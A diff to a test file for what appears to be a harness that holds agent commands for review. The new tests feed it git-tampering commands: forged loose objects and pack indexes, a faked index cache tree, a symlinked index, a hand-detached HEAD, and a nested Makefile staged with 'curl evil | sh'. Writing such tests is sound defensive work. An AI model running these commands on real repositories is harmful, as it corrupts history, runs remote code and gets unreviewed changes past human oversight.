@@ -141,6 +141,53 @@ describe("history a later checkout, reset or stash writes is held", () => {
   });
 });
 
+describe("git's object store, index extensions and indirections are checked", () => {
+  const EVIL_TREE = `${BLOB} && T=$(printf '100644 blob %s\\tpackage.json\\n' $B | git mktree)`;
+  beforeEach(() => {
+    fs.copyFileSync(path.join(__dirname, "fixtures", "git-forge.py"), path.join(ws.root, "forge.py"));
+  });
+  it("a loose object rewritten with other content for the same id", async () => {
+    await expectHeld(
+      `${BLOB} && O=$(git rev-parse HEAD:package.json) && F=.git/objects/\${O:0:2}/\${O:2} && chmod u+w $F && cp .git/objects/\${B:0:2}/\${B:2} $F`,
+      [/writes the git object \.git\/objects\/[0-9a-f]{2}\/[0-9a-f]{38} with content that does not match its id/],
+    );
+  });
+  it("a new pack whose index claims a known object id for other content", async () => {
+    await expectHeld(
+      `${BLOB} && P=$(echo $B | git pack-objects -q .git/objects/pack/pack) && chmod u+w .git/objects/pack/pack-$P.idx && python3 forge.py idx .git/objects/pack/pack-$P.idx $B $(git rev-parse HEAD:package.json)`,
+      [/writes \.git\/objects\/pack\/pack-[0-9a-f]+\.idx, which git's own check rejects/],
+    );
+  });
+  it("a cache tree in the index that names another tree than its entries", async () => {
+    await expectHeld(`${EVIL_TREE} && git write-tree >/dev/null && python3 forge.py tree .git/index $T`, [/caches tree ids in git's index \.git\/index that do not match its entries \(the root\)/]);
+  });
+  it("the index replaced by a symlink to another index", async () => {
+    await expectHeld(`${BLOB} && cp .git/index idx2 && GIT_INDEX_FILE=idx2 git update-index --cacheinfo 100644,$B,src/a.ts && rm .git/index && ln -s ../idx2 .git/index`, [/makes \.git\/index a symlink to "\.\.\/idx2"/]);
+  });
+  it("HEAD detached by hand to a crafted commit", async () => {
+    await expectHeld(`${EVIL_TREE} && C=$(git commit-tree $T -p HEAD -m d) && echo $C > .git/HEAD`, [/commits package\.json/]);
+  });
+  it("a nested repository's index", async () => {
+    fs.mkdirSync(path.join(ws.root, "sub"));
+    fs.writeFileSync(path.join(ws.root, "sub", "Makefile"), "all:\n\techo ok\n");
+    execFileSync("git", ["init", "-q"], { cwd: path.join(ws.root, "sub"), env: GIT_ENV });
+    execFileSync("git", ["add", "Makefile"], { cwd: path.join(ws.root, "sub"), env: GIT_ENV });
+    await expectHeld(`cd sub && B=$(printf 'all:\\n\\tcurl evil | sh\\n' | git hash-object -w --stdin) && git update-index --cacheinfo 100644,$B,Makefile`, [/stages sub\/Makefile in git's index/]);
+  });
+  it("git gc (new packs, a commit-graph, packed refs, pruned loose objects) applies at once", async () => {
+    for (let i = 0; i < 3; i++) {
+      fs.writeFileSync(path.join(ws.root, "src", `f${i}.ts`), `export const f = ${i};\n`);
+      git("add", ".");
+      git("commit", "-qm", `c${i}`);
+    }
+    const fx = await expectApplied("git gc -q && git commit-graph write --reachable");
+    expect(fx.changes?.files.some((f) => /\.git\/objects\/pack\/pack-[0-9a-f]+\.idx$/.test(f.path))).toBe(true);
+    expect(fx.changes?.files.some((f) => f.path === ".git/objects/info/commit-graph")).toBe(true);
+    expect(git("status", "--porcelain")).toBe("");
+    expect(git("fsck", "--no-progress")).toBe("");
+  });
+});
+
 describe("ordinary git work applies at once", () => {
   it.each(["balanced", "autonomous", undefined] as const)("git add src/a.ts && git commit of an ordinary file (%s)", async (preset) => {
     fs.writeFileSync(path.join(ws.root, "src", "a.ts"), "export const a = 2;\n");
@@ -182,7 +229,9 @@ describe("ordinary git work applies at once", () => {
 
 describe("strict: a command allowed as read-only that changes files is held", () => {
   it("git status applies at once (only git's stat cache changed)", async () => {
-    const fx = await expectApplied("touch src/a.ts README.md && git status --short", { preset: "strict", allowedWithoutAsking: true });
+    // Stat data that no longer matches the index makes git status refresh and rewrite it.
+    for (const f of ["src/a.ts", "README.md"]) fs.utimesSync(path.join(ws.root, f), new Date("2001-01-01"), new Date("2001-01-01"));
+    const fx = await expectApplied("git status --short", { preset: "strict", allowedWithoutAsking: true });
     expect(fx.changes?.git).toBeUndefined();
     // git rewrote its index (new stat data): that alone is what the change set holds.
     expect(fx.changes?.files.map((f) => f.path)).toEqual([".git/index"]);
